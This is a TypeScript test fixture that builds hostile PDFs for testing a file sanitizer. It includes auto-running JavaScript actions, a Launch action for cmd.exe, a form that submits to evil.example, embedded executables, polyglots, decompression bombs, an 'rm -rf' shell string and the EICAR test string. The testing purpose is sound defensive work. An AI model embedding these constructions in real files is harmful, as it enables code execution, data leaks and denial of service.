import { createHash } from 'node:crypto';
import { constants, deflateRawSync, deflateSync } from 'node:zlib';
import { eicarTestFile } from '@participe/connectors/fake-virus-scanner';
import {
  buildPdf,
  endlessNumbersPdf,
  longStringPdf,
  buildExifData,
  squareDrawing,
  buildJpegSegment,
  buildJpeg,
  buildPdfStream,
  buildOnePagePdf,
  baselineJpeg,
  updatePdf,
} from '@participe/file-sanitizer/samples';
import {
  type HostileFile,
  buildHostileFileToSanitize,
  buildHostileFileToRefuse,
} from './hostile-file.ts';
import { buildPackedPdf } from './packed-pdf.ts';

const alert = '<</S/JavaScript/JS(app.alert\\(1\\))>>';
const launch = '<</S/Launch/F(calc.exe)/Win<</F(cmd.exe)>>>>';
const acting = ['app.alert', 'JavaScript', 'OpenAction', 'Launch', 'calc.exe', 'cmd.exe'];
const box = '/Type/Annot/Rect[0 0 50 50]';
const look = buildPdfStream(
  '1 0 0 rg 0 0 50 50 re f',
  '/Type/XObject/Subtype/Form/BBox[0 0 50 50]',
);

/** Returns a PDF image that declares the given size. */
const picture = (size: string, packed = '/DCTDecode'): Buffer =>
  buildPdfStream(
    baselineJpeg(),
    `/Type/XObject/Subtype/Image${size}/ColorSpace/DeviceGray/BitsPerComponent 8/Filter${packed}`,
  );

/** Returns a stream of compressed zeros that takes very long to decompress. */
function buildSlowStream(megabytes = 300): Buffer {
  const once = deflateRawSync(Buffer.alloc(1024 * 1024), { finishFlush: constants.Z_FULL_FLUSH });
  return Buffer.concat([
    Buffer.from([0x78, 0x9c]),
    ...Array.from({ length: megabytes }, () => once),
    Buffer.from([3, 0]),
  ]);
}

const program = Buffer.concat([Buffer.from('MZ'), Buffer.from('This program cannot be run')]);

/** PDFs with active content or attachments, of which the service stores only the pages. */
const pdfsToSanitize: readonly HostileFile[] = [
  buildHostileFileToSanitize(
    'a PDF that runs when it is opened',
    () => buildOnePagePdf({ catalog: `/OpenAction ${alert}` }),
    acting,
  ),
  buildHostileFileToSanitize(
    'a PDF with a script among its names',
    () => buildOnePagePdf({ catalog: `/Names<</JavaScript<</Names[(a) ${alert}]>>>>` }),
    acting,
  ),
  buildHostileFileToSanitize(
    'a page that runs when shown',
    () => buildOnePagePdf({ page: `/AA<</O ${alert}>>` }),
    acting,
  ),
  buildHostileFileToSanitize(
    'a script under a name in disguise',
    () => buildOnePagePdf({ catalog: '/OpenAction<</S/J#61vaScript/J#53(app.alert\\(1\\))>>' }),
    acting,
  ),
  buildHostileFileToSanitize(
    'a script in a packed object',
    () => buildPackedPdf(`/OpenAction ${alert}`),
    acting,
  ),
  buildHostileFileToSanitize(
    'a script that was added behind the end',
    () => updatePdf(buildOnePagePdf(), 1, [`<</Type/Catalog/Pages 2 0 R/OpenAction ${alert}>>`]),
    acting,
  ),
  buildHostileFileToSanitize(
    'a link that starts a program',
    () => buildOnePagePdf({ page: `/Annots[<<${box}/Subtype/Link/A ${launch}>>]` }),
    acting,
  ),
  buildHostileFileToSanitize(
    'a link to another place',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/Link/A<</S/URI/URI(http://evil.example/)>>>>]`,
      }),
    ['evil.example', 'URI'],
  ),
  buildHostileFileToSanitize(
    'a button that sends what is written',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/Widget/FT/Btn/AP<</N 5 0 R>>/A<</S/SubmitForm/F(http://evil.example/)>>>>]`,
        more: [look],
      }),
    ['evil.example', 'SubmitForm', 'Widget'],
  ),
  buildHostileFileToSanitize(
    'a box with a script for every key',
    () =>
      buildOnePagePdf({
        catalog: '/AcroForm<</Fields[6 0 R]/NeedAppearances true>>',
        page: '/Annots[6 0 R]',
        more: [look, `<<${box}/Subtype/Widget/FT/Tx/T(a)/V(b)/AP<</N 5 0 R>>/AA<</K ${alert}>>>>`],
      }),
    [...acting, 'AcroForm', 'Widget'],
  ),
  buildHostileFileToSanitize(
    'a form of its own kind (XFA)',
    () =>
      buildOnePagePdf({ catalog: '/AcroForm<</XFA 5 0 R>>', more: [buildPdfStream('<xdp:xdp/>')] }),
    ['XFA', 'xdp'],
  ),
  buildHostileFileToSanitize(
    'a program among its files',
    () =>
      buildOnePagePdf({
        catalog: '/Names<</EmbeddedFiles<</Names[(a.exe) 5 0 R]>>>>',
        more: [
          '<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>',
          buildPdfStream(program, '/Type/EmbeddedFile'),
        ],
      }),
    ['EmbeddedFile', 'a.exe', 'cannot be run'],
  ),
  buildHostileFileToSanitize(
    'a program pinned to a page',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/FileAttachment/FS 5 0 R/AP<</N 7 0 R>>>>]`,
        more: ['<</Type/Filespec/F(a.exe)/EF<</F 6 0 R>>>>', buildPdfStream(program), look],
      }),
    ['FileAttachment', 'a.exe', 'cannot be run'],
  ),
  buildHostileFileToSanitize(
    'a film that plays',
    () =>
      buildOnePagePdf({
        page: `/Annots[<<${box}/Subtype/RichMedia/RichMediaContent 5 0 R/AP<</N 6 0 R>>>>]`,
        more: [buildPdfStream('FWS'), look],
      }),
    ['RichMedia', 'FWS'],
  ),
  buildHostileFileToSanitize(
    'a picture that stands elsewhere',
    () =>
      buildOnePagePdf({
        resources: '/XObject<</X 5 0 R>>',
        more: [
          buildPdfStream(
            squareDrawing,
            '/Type/XObject/Subtype/Form/BBox[0 0 9 9]/F(//evil.example/x)',
          ),
        ],
      }),
    ['evil.example'],
  ),
  buildHostileFileToSanitize(
    'a photograph on a page that knows where it was taken',
    () =>
      buildOnePagePdf({
        resources: '/XObject<</X 5 0 R>>',
        more: [
          buildPdfStream(
            buildJpeg(
              buildExifData(1, 'GPS 40.4168N'),
              buildJpegSegment(0xfe, Buffer.from('<?php')),
            ),
            '/Type/XObject/Subtype/Image/Width 20/Height 12/Filter/DCTDecode',
          ),
        ],
      }),
    ['GPS', 'Exif', 'php'],
  ),
  buildHostileFileToSanitize(
    'papers about the person who wrote it',
    () =>
      buildOnePagePdf({
        catalog: '/Metadata 5 0 R/PieceInfo<</A<</Private 5 0 R>>>>',
        more: [
          buildPdfStream('<x:xmpmeta>Ana Martínez</x:xmpmeta>'),
          '<</Author(Ana)/Title(Secreto)>>',
        ],
        trailer: '/Info 6 0 R',
      }),
    ['xmpmeta', 'Secreto', 'Author'],
  ),
  buildHostileFileToSanitize(
    'an object that no page needs',
    () => buildOnePagePdf({ more: [buildPdfStream('#!/bin/sh rm -rf')] }),
    ['/bin/sh'],
  ),
];

const cut = (bytes: Buffer, from: string, to: string): Buffer =>
  Buffer.from(bytes.toString('latin1').replace(from, to), 'latin1');
const digest = createHash('md5').update('key').digest('hex');

/** Returns a PDF that takes long to read and is then refused for its broken end. */
export const slowPdf = (): Buffer =>
  buildOnePagePdf({ content: buildPdfStream(buildSlowStream(60), '/Filter/FlateDecode') });

/** PDFs that are refused: encrypted, broken, polyglot, or oversized when unpacked. */
const broken: readonly HostileFile[] = [
  buildHostileFileToRefuse('a PDF under a key', () =>
    buildOnePagePdf({
      trailer: `/Encrypt<</Filter/Standard/V 1/R 2/P -4>>/ID[<${digest}><${digest}>]`,
    }),
  ),
  buildHostileFileToRefuse('a PDF under the key of somebody', () =>
    buildOnePagePdf({ content: buildPdfStream(squareDrawing, '/Filter/Crypt') }),
  ),
  buildHostileFileToRefuse('half a PDF', () => buildOnePagePdf().subarray(0, 200)),
  buildHostileFileToRefuse('a PDF without its end', () => buildOnePagePdf().subarray(0, -7)),
  buildHostileFileToRefuse('the beginning of a PDF', () => Buffer.from('%PDF-1.7\n')),
  buildHostileFileToRefuse('a PDF with a packed file behind it', () =>
    Buffer.concat([buildOnePagePdf(), Buffer.from('PK\u0003\u0004')]),
  ),
  buildHostileFileToRefuse('a PDF with a page of the web behind it', () =>
    Buffer.concat([buildOnePagePdf(), Buffer.from('<script>alert(1)</script>')]),
  ),
  buildHostileFileToRefuse('a picture followed by a PDF', () =>
    Buffer.concat([Buffer.from('GIF89a'), buildOnePagePdf()]),
  ),
  buildHostileFileToRefuse('a page of the web with a PDF in it', () =>
    Buffer.concat([Buffer.from('<!--'), buildOnePagePdf()]),
  ),
  buildHostileFileToRefuse('a PDF behind a mark of byte order', () =>
    Buffer.concat([Buffer.from([0xef, 0xbb, 0xbf]), buildOnePagePdf()]),
  ),
  buildHostileFileToRefuse('a PDF whose table points elsewhere', () =>
    cut(buildOnePagePdf(), '%\u00e2\u00e3\u00cf\u00d3\n', '% moved everything\n'),
  ),
  buildHostileFileToRefuse('a PDF with more objects than fit', () =>
    cut(buildOnePagePdf(), '1 4\n0', '1 999999999\n0'),
  ),
  buildHostileFileToRefuse('a PDF whose parts run in a circle', () => {
    const text = buildOnePagePdf().toString('latin1');
    return Buffer.from(
      text.replace(/>>\nstartxref\n(\d+)/u, '/Prev $1>>\nstartxref\n$1'),
      'latin1',
    );
  }),
  buildHostileFileToRefuse('a PDF without a page', () =>
    buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[]/Count 0>>']),
  ),
  buildHostileFileToRefuse('pages that run in a circle', () =>
    buildPdf(['<</Type/Catalog/Pages 2 0 R>>', '<</Type/Pages/Kids[2 0 R]/Count 1>>']),
  ),
  buildHostileFileToRefuse('an object that holds itself', () => buildPackedPdf('', true)),
  buildHostileFileToRefuse('values without end in each other', () =>
    buildOnePagePdf({ resources: `/Font ${'['.repeat(5000)}${']'.repeat(5000)}` }),
  ),
  buildHostileFileToRefuse('a stream that is longer than its file', () =>
    buildOnePagePdf({ content: Buffer.from('<</Length 99999999>>\nstream\nx\nendstream') }),
  ),
  buildHostileFileToRefuse('a stream whose length leads to itself', () =>
    buildOnePagePdf({ content: Buffer.from('<</Length 4 0 R>>\nstream\nx\nendstream') }),
  ),
  buildHostileFileToRefuse('a stream that unfolds without end', () =>
    buildOnePagePdf({ content: buildPdfStream(buildSlowStream(), '/Filter/FlateDecode') }),
  ),
  buildHostileFileToRefuse('a stream that unfolds twice', () =>
    buildOnePagePdf({
      content: buildPdfStream(deflateSync(buildSlowStream()), '/Filter[/FlateDecode/FlateDecode]'),
    }),
  ),
  buildHostileFileToRefuse('an object stream that unfolds to one string', longStringPdf),
  buildHostileFileToRefuse('an object stream that names fifty million objects', endlessNumbersPdf),
  buildHostileFileToRefuse('a stream of runs that add up', () =>
    buildOnePagePdf({
      content: buildPdfStream(Buffer.alloc(5 * 1024 * 1024, 0x81), '/Filter/RunLengthDecode'),
    }),
  ),
  buildHostileFileToRefuse('a picture as large as a field', () =>
    buildOnePagePdf({
      resources: '/XObject<</X 5 0 R>>',
      more: [picture('/Width 100000/Height 100000')],
    }),
  ),
  buildHostileFileToRefuse('a picture packed by nobody knows what', () =>
    buildOnePagePdf({
      resources: '/XObject<</X 5 0 R>>',
      more: [picture('/Width 9/Height 9', '/MadeUpDecode')],
    }),
  ),
  buildHostileFileToRefuse('a PDF in which the scanner finds something', () =>
    buildOnePagePdf({ content: buildPdfStream(`% ${eicarTestFile}`) }),
  ),
];

export const hostilePdfs: readonly HostileFile[] = [...pdfsToSanitize, ...broken];
